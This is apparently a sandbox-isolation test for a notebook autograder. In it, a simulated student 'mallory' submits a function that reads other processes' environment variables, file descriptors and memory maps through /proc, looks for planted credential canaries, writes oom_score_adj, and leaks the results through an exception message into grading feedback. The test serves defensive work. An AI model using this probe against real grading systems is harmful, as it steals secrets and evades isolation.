"""What the student's function sees when the observer's child calls it: processes of the observer's sandbox, what of
them is readable (environ, fds, cwd, maps), the child's own descriptors and cwd folder, and writes to the
observer's /proc files (oom_score_adj, affinity). Exfiltrated as the message of an exception the check reports."""
from common import *
OVERRIDE = r'''
def training_memory(model, optimizer):
    import os
    out = []
    for pid in sorted(os.listdir("/proc")):
        if not pid.isdigit(): continue
        row = [pid]
        try: row.append(open(f"/proc/{pid}/cmdline","rb").read()[:50].replace(b"\0", b" ").decode(errors="replace"))
        except Exception as e: row.append(type(e).__name__)
        for what in ("environ", "maps", "cwd", "fd", "oom_score_adj"):
            try:
                p = f"/proc/{pid}/{what}"
                if what == "cwd": v = os.readlink(p) + ":" + ",".join(os.listdir(p))[:80]
                elif what == "fd": v = ",".join(f"{f}>{os.readlink(p + '/' + f)}" for f in os.listdir(p))[:200]
                else: v = str(len(open(p, "rb").read()))
                if what == "environ" and (b"AKIASECRET" in open(p, "rb").read() or b"ta:secret" in open(p, "rb").read()): v += " CANARY!"
            except Exception as e: v = type(e).__name__
            row.append(f"{what}={v}")
        try:
            open(f"/proc/{pid}/oom_score_adj", "w").write("1000"); row.append("oomadj-write-ok")
        except Exception as e: row.append("oomadj-" + type(e).__name__)
        out.append(" ".join(row))
    out.append("cwd=" + os.getcwd() + " " + ",".join(os.listdir(".")))
    raise ValueError(" || ".join(out))
'''
d = course("a05")
submit(d, "aaron", notebook())
submit(d, "mallory", notebook(overrides={"training_memory": OVERRIDE}))
submit(d, "zoe", notebook())
grade(d); scores(d); canary_scan(d)
import re
html = open(f"{d}/feedback/mallory/ps1_memory/ps1_memory.html", encoding="utf-8").read()
for m in re.findall(r"ValueError[^<]{0,4000}", html)[:3]:
    print("FEEDBACK:", m.replace("||", "\n  ||"))
nb = nbformat.read(f"{d}/autograded/mallory/ps1_memory/ps1_memory.ipynb", as_version=4)
for c in nb.cells:
    for o in c.get("outputs", []):
        t = o.get("text", "") or "\n".join(o.get("traceback", []))
        if "ValueError" in t: print("OUTPUT:", t[:4000].replace("||", "\n  ||"))
